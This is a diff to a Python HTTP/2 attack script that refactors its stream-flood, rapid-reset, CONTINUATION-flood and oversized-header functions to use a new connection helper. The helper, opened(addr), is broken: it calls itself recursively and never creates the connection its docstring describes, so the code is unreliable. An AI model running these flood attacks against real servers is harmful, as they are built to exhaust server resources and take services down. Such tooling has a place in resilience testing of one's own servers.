@@ -129,15 +129,19 @@ class Conn:
             pass
 
 
+def opened(addr):
+    """A connection past the preface, with the server's SETTINGS read."""
+    c = opened(addr)
+    return c
+
+
 def bounded(seconds):
     end = time.monotonic() + seconds
     return lambda: time.monotonic() < end
 
 
 def attack_streams(addr, n, seconds):
-    c = Conn(addr)
-    c.start()
-    c.poll(1.0)
+    c = opened(addr)
     more = bounded(seconds)
     block = request_block()
     sent = 0
@@ -159,9 +163,7 @@ def attack_streams(addr, n, seconds):
 
 
 def attack_rapid_reset(addr, n, seconds):
-    c = Conn(addr)
-    c.start()
-    c.poll(1.0)
+    c = opened(addr)
     more = bounded(seconds)
     block = request_block()
     sent = 0
@@ -186,9 +188,7 @@ def attack_rapid_reset(addr, n, seconds):
 
 
 def attack_continuation(addr, n, seconds):
-    c = Conn(addr)
-    c.start()
-    c.poll(1.0)
+    c = opened(addr)
     more = bounded(seconds)
     c.send(frame(HEADERS, 0, 1, request_block()))
     chunk = literal("x-flood", "f" * 16000)
@@ -207,9 +207,7 @@ def attack_continuation(addr, n, seconds):
 
 
 def attack_big_header(addr, n, seconds):
-    c = Conn(addr)
-    c.start()
-    c.poll(1.0)
+    c = opened(addr)
     block = request_block(extra=[("x-big", "b" * n)])
     # One HEADERS frame may carry at most the peer's max_frame_size (16 KiB
     # by default): the rest goes in CONTINUATION frames, all in one write.
